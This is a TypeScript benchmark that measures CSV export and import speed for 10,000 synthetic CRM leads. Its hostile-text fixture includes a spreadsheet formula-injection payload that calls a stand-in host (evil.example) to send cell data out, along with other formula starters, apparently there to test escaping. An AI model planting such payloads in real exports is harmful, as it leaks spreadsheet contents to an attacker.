/**
 * CSV files (issue 5), in Node:
 * - an export of 10,000 leads (3 emails and 3 phones each, hostile text: quotes, commas,
 *   line breaks, formula starters, accents, emoji) to the standard and the HubSpot layout,
 *   against `JSON.stringify` of the same rows in the same run (the least any file costs);
 * - `readProfileList` of 10,000 profile addresses (a CRM export: header, 4 columns, quoting),
 *   against `Papa.parse` of the same text alone, and against its 200 ms budget.
 */
import Papa from 'papaparse';
import type { ContactValue, PoolLead } from '../shared/api.ts';
import { leadsToCsv } from '../shared/csv-export.ts';
import { readProfileList } from '../shared/csv-import.ts';
import { median, ms, p95 } from './stats.ts';

const LEADS = 10_000;
const RUNS = Number(process.env.BENCH_CSV_RUNS ?? 15);
const WARM_UP = 3;
const IMPORT_BUDGET_MS = 200;

const HOSTILE = [
  'Jérôme "JD" Dupont, PhD',
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '+33 6 12 34 56 78',
  '-2+3',
  '@SUM(A1:A2)',
  'line one\nline two\r\nline three',
  '👩🏽‍💻 Staff Engineer · 🇫🇷',
  'مريم العبدالله',
  'Zoë Ærøskøbing; Müller',
];

function benchRows(): PoolLead[] {
  const value = (text: string, phoneKind?: 'mobile' | 'landline'): ContactValue => ({
    value: text,
    verifiedAt: '2026-11-01T00:00:00.000Z',
    ...(phoneKind ? { phoneKind } : {}),
  });
  return Array.from({ length: LEADS }, (_, index) => {
    const text = (offset: number) => `${HOSTILE[(index + offset) % HOSTILE.length]} ${index}`;
    return {
      lead: `lead-${index}-jérôme`,
      name: text(0),
      headline: text(1),
      company: text(2),
      location: 'Paris, Île-de-France, France',
      revealedAt: '2026-11-20T08:05:00.000Z',
      lastRevealedAt: '2026-11-21T08:05:00.000Z',
      values: {
        b2bEmail: [value(`a${index}@x.example`), value(`b${index}@x.example`), value(`=c${index}@x.example`)],
        phone: [
          value(`+33 6 12 34 ${String(index % 100).padStart(2, '0')} 78`, 'mobile'),
          value(`+1-415-555-${String(index % 10_000).padStart(4, '0')}`, 'landline'),
          value(`+44 20 7946 ${index % 10_000}`),
        ],
        directEmail: [value(`me${index}@home.example`), value(`"quoted, ${index}"@home.example`), value('é@x.fr')],
      },
      exports: index % 7,
      lastExportedAt: null,
    };
  });
}

function benchProfileList(): string {
  return Papa.unparse(
    [
      ['Full name', 'Email', 'Notes', 'LinkedIn'],
      ...Array.from({ length: LEADS }, (_, index) => [
        `Lead ${index}, "the" one`,
        `lead${index}@x.example`,
        index % 10 === 0 ? 'met twice\nat the expo' : '',
        index % 3 === 0
          ? `https://www.linkedin.com/in/Lead-${index}/?trk=x`
          : `linkedin.com/in/j%C3%A9r%C3%B4me-${index}`,
      ]),
    ],
    { newline: '\r\n' },
  );
}

function time(run: () => unknown): number {
  const start = performance.now();
  run();
  return performance.now() - start;
}

/** Runs each measure in turn, RUNS times after WARM_UP, so they share the machine's noise. */
function sample(measures: Record<string, () => unknown>): Record<string, number[]> {
  const samples: Record<string, number[]> = Object.fromEntries(Object.keys(measures).map((name) => [name, []]));
  for (let run = 0; run < WARM_UP + RUNS; run += 1) {
    for (const [name, measure] of Object.entries(measures)) {
      const elapsed = time(measure);
      if (run >= WARM_UP) samples[name]?.push(elapsed);
    }
  }
  return samples;
}

export function benchCsv(): void {
  const rows = benchRows();
  const list = benchProfileList();
  const now = Date.parse('2026-11-27T12:00:00Z');
  const sizes = {
    standard: leadsToCsv(rows, 'standard', { now }).content.length,
    hubspot: leadsToCsv(rows, 'hubspot', { now }).content.length,
    json: JSON.stringify(rows).length,
  };
  const read = readProfileList(list);
  if (read.valid.length !== LEADS || read.invalid.length !== 0) {
    throw new Error(`readProfileList read ${read.valid.length} profiles and ${read.invalid.length} invalid rows`);
  }

  const samples = sample({
    standard: () => leadsToCsv(rows, 'standard', { now }),
    hubspot: () => leadsToCsv(rows, 'hubspot', { now }),
    json: () => JSON.stringify(rows),
    readProfileList: () => readProfileList(list),
    papaParse: () => Papa.parse(list),
  });
  const at = (name: string) => samples[name] ?? [];

  console.log(`\n## CSV (${LEADS.toLocaleString('en')} leads; ${RUNS} runs after ${WARM_UP} warm-up)\n`);
  console.log('| measure | median | p95 | baseline (median / p95) | ratio of medians |');
  console.log('|---|---:|---:|---|---:|');
  const line = (label: string, name: string, baseline: string, baseLabel: string) => {
    const ratio = median(at(name)) / median(at(baseline));
    console.log(
      `| ${label} | ${ms(median(at(name)))} | ${ms(p95(at(name)))} | ${baseLabel}: ${ms(median(at(baseline)))} / ${ms(p95(at(baseline)))} | ${ratio.toFixed(1)}× |`,
    );
  };
  const kb = (chars: number) => `${(chars / 1024 / 1024).toFixed(1)} M chars`;
  line(`export, standard layout (${kb(sizes.standard)})`, 'standard', 'json', `JSON.stringify (${kb(sizes.json)})`);
  line(`export, HubSpot layout (${kb(sizes.hubspot)})`, 'hubspot', 'json', 'JSON.stringify');
  line('readProfileList, 10,000 rows', 'readProfileList', 'papaParse', 'Papa.parse of the same text');
  const verdict = median(at('readProfileList')) < IMPORT_BUDGET_MS ? 'within' : 'OVER';
  console.log(
    `\nreadProfileList: ${verdict} its ${IMPORT_BUDGET_MS} ms budget (p95 ${ms(p95(at('readProfileList')))}).`,
  );
}
